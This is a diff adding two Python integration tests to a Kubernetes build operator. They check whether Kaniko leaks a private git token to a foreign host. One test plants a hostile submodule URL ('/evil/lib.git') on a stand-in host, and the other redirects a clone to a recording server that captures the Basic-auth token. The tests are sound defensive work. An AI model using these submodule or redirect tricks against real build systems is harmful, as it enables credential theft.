@@ -703,3 +703,93 @@ def test_operator_killed_mid_build_records_the_build_once(
 def _running_build_pods(cluster: localcluster.LocalCluster, namespace: str) -> int:
     pods = json.loads(cluster.kubectl("get", "pods", "-n", namespace, "-o", "json").stdout)
     return sum(1 for p in pods["items"] if p["status"].get("phase") == "Running")
+
+
+def test_a_private_build_clones_no_submodule_and_its_host_hears_nothing(
+    real_cluster: localcluster.LocalCluster, namespace: str, tmp_path: Path
+) -> None:
+    """Issue 17, item 10: Kaniko's go-git clones submodules with the repository's token, to
+    whatever host .gitmodules names. A build with credentials recurses into none."""
+    from support.gitserver import git_env
+    from support.hostilegit import COMMIT, RecordingGitServer
+
+    token = "s3cret-" + uuid.uuid4().hex
+    with (
+        GitServer(tmp_path / "git") as git,
+        RecordingGitServer(host="127.0.0.2") as other_host,
+    ):
+        repo = git.create_repo("acme", "with-submodule", private_token=token)
+        work = tmp_path / "work"
+        work.mkdir()
+        env = git_env(tmp_path)
+
+        def run_git(*args: str) -> None:
+            argv = ["git", "-c", "init.defaultBranch=main", *args]
+            subprocess.run(argv, cwd=work, env=env, check=True, capture_output=True)
+
+        run_git("init", "-q")
+        (work / "Dockerfile").write_text(DOCKERFILE)
+        (work / ".gitmodules").write_text(
+            f'[submodule "lib"]\n\tpath = lib\n\turl = {other_host.url}/evil/lib.git\n'
+        )
+        run_git("add", "Dockerfile", ".gitmodules")
+        run_git("update-index", "--add", "--cacheinfo", f"160000,{COMMIT},lib")
+        run_git("commit", "-qm", "a submodule on another host")
+        run_git(
+            "push", "-q", repo.clone_url.replace("://", f"://u:{token}@"), "HEAD:refs/heads/main"
+        )
+        commit = repo.heads()["refs/heads/main"]
+        real_cluster.kubectl(
+            "create",
+            "secret",
+            "generic",
+            "git-link",
+            "-n",
+            namespace,
+            f"--from-literal=token={token}",
+        )
+        document = _automated_build(real_cluster, namespace, repo, credentialsSecret="git-link")
+        (job,) = _render(real_cluster, document, commit)
+        condition, terminated = _run_job(real_cluster, namespace, job)
+        # No request at all: the token never went there (the build pods share the host's
+        # loopback, so go-git would reach it).
+        assert other_host.requests == []
+    assert condition == "Complete", terminated["log"]
+    args = job["spec"]["template"]["spec"]["containers"][0]["args"]
+    assert not any(arg.startswith("--git=") for arg in args)
+
+
+def test_kaniko_follows_a_redirect_with_the_token(
+    real_cluster: localcluster.LocalCluster, namespace: str, tmp_path: Path
+) -> None:
+    """What the operator's check before a credentialed build guards against (issue 17, item 9;
+    docs/security-git.md): the real executor follows a redirect of the allowed host and sends
+    the token to the other host. When this fails, Kaniko stopped doing it."""
+    import base64 as b64
+
+    from support.hostilegit import RecordingGitServer, RedirectServer
+
+    token = "s3cret-" + uuid.uuid4().hex
+    with (
+        GitServer(tmp_path / "git") as git,
+        RecordingGitServer(host="127.0.0.2") as other_host,
+        RedirectServer(other_host.url) as allowed,
+    ):
+        repo = git.create_repo("acme", "redirected", private_token=token)
+        commit = repo.commit("main", {"Dockerfile": DOCKERFILE}, "one")
+        real_cluster.kubectl(
+            "create",
+            "secret",
+            "generic",
+            "git-link",
+            "-n",
+            namespace,
+            f"--from-literal=token={token}",
+        )
+        document = _automated_build(real_cluster, namespace, repo, credentialsSecret="git-link")
+        document["spec"]["source"]["repo"] = f"{allowed.url}/acme/redirected.git"
+        (job,) = _render(real_cluster, document, commit)
+        condition, _ = _run_job(real_cluster, namespace, job)
+        seen = {r.authorization for r in other_host.requests}
+    assert condition == "Failed"  # the recording host serves no pack
+    assert "Basic " + b64.b64encode(f"x-access-token:{token}".encode()).decode() in seen
